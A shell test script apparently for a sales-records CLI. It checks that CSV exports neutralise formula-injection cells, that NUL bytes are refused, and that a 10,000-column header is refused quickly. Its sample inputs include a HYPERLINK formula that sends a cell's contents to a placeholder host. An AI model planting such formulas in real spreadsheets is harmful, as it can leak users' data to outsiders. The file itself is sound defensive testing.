#!/bin/sh
# Hostile CSV (issue 16): an export guards cells a spreadsheet would run
# as formulas (OWASP: a leading single quote before = + - @ tab CR, and
# before a leading quote) unless --raw; the import reads them back as
# they were. A NUL byte in a field is refused with its line and column
# (it silently cut "ab\0cd" to "ab"). A header of 10,000 columns is
# answered at once (it took 97.8 s and 3 GB).
. "${GSPDESK_TEST_SRCDIR:-$(cd "$(dirname "$0")/.." && pwd)}/cli/lib.sh"

init_db
add_fixtures
n=0
for r in '=HYPERLINK("http://x.example/?"&A1,"click")' '+1+1' '@SUM(A1:A9)' '-2+3' "'quoted" "'=kept" 'plain=text'; do
	n=$((n + 1))
	g add sales product=P1 qty=1 "batch=B$n" sale_date=2026-03-05 customer=C1 "remarks=$r"
	[ "$rc" = 0 ] || echo "Bail out! add remarks=$r failed: $err"
done

g export sales -o "$tmp/s.csv"
exit_is 0 "export to CSV"
# remarks is the 12th column (the facts of the day of sale follow it)
rem() { grep "$1" "$tmp/s.csv" | cut -d, -f12; }
is "$(grep -c "\"'=HYPERLINK" "$tmp/s.csv")" 1 "=HYPERLINK… gets a leading quote (quoted: it has a comma)"
is "$(rem ',B2,')" "'+1+1" "+1+1 gets a leading quote"
is "$(rem ',B3,')" "'@SUM(A1:A9)" "@SUM gets a leading quote"
is "$(rem ',B4,')" "'-2+3" "-2+3 gets a leading quote"
is "$(rem ',B5,')" "''quoted" "a value starting with a quote gets another"
is "$(rem ',B6,')" "''=kept" "so does '=kept"
is "$(rem ',B7,')" "plain=text" "an = inside is left alone"
g export sales --raw -o "$tmp/raw.csv"
exit_is 0 "export --raw"
is "$(grep -c '^[^,]*,[^,]*,[^,]*,[^,]*,B2,.*,+1+1,' "$tmp/raw.csv")" 1 "--raw writes +1+1 as it is"
g list sales --format csv
like "$out" "'@SUM(A1:A9)" "list --format csv guards too"
g list sales --format csv --raw
unlike "$out" "'@SUM" "list --format csv --raw does not"
g export sales --format xlsx --raw -o "$tmp/x.xlsx"
exit_is 2 "--raw with xlsx is a usage error"

# round trip: import the guarded export, the remarks come back as entered
"$SQLITE3" "$GSPDESK_DB" "SELECT remarks FROM sales ORDER BY id" >"$tmp/before"
g import sales "$tmp/s.csv"
exit_is 0 "the guarded export imports"
"$SQLITE3" "$GSPDESK_DB" "SELECT remarks FROM sales WHERE id > $(wc -l <"$tmp/before") ORDER BY id" >"$tmp/after"
is "$(cat "$tmp/after")" "$(cat "$tmp/before")" "every remark reads back exactly as entered"

# NUL in a field: line 3, column 6 (remarks)
printf 'product,qty,batch,sale_date,customer,remarks\nP1,1,N1,2026-03-05,C1,fine\nP1,1,N2,2026-03-05,C1,ab\000cd\n' >"$tmp/nul.csv"
refused 1 "line 3, column 6: the field holds a NUL byte" "a NUL in a field" import sales "$tmp/nul.csv"

# 10,000 columns, all the same field, then all unknown
"$PY" -c 'import sys; print(",".join(["batch"] * 10000)); print(",".join(["x"] * 10000))' >"$tmp/wide1.csv"
"$PY" -c 'import sys; print(",".join("c%d" % i for i in range(10000)))' >"$tmp/wide2.csv"
for f in wide1 wide2; do
	start=$(date +%s)
	if [ -x /usr/bin/time ]; then
		/usr/bin/time -v -o "$tmp/time" "$GSPDESK_BIN" import sales "$tmp/$f.csv" >/dev/null 2>"$tmp/err" </dev/null
		rc=$?
		kb=$(sed -n 's/.*Maximum resident set size (kbytes): //p' "$tmp/time")
	else
		$GSPDESK_BIN import sales "$tmp/$f.csv" >/dev/null 2>"$tmp/err" </dev/null
		rc=$?
		kb=0
	fi
	secs=$(($(date +%s) - start))
	diag "$f: $secs s, $kb KiB"
	exit_is 1 "$f: a header of 10,000 columns is refused"
	ok_if "$([ "$secs" -lt 10 ]; echo $?)" "$f: in under 10 s (took $secs s)"
	ok_if "$([ "${kb:-0}" -lt 65536 ]; echo $?)" "$f: in under 64 MB (took $kb KiB)"
done

done_testing
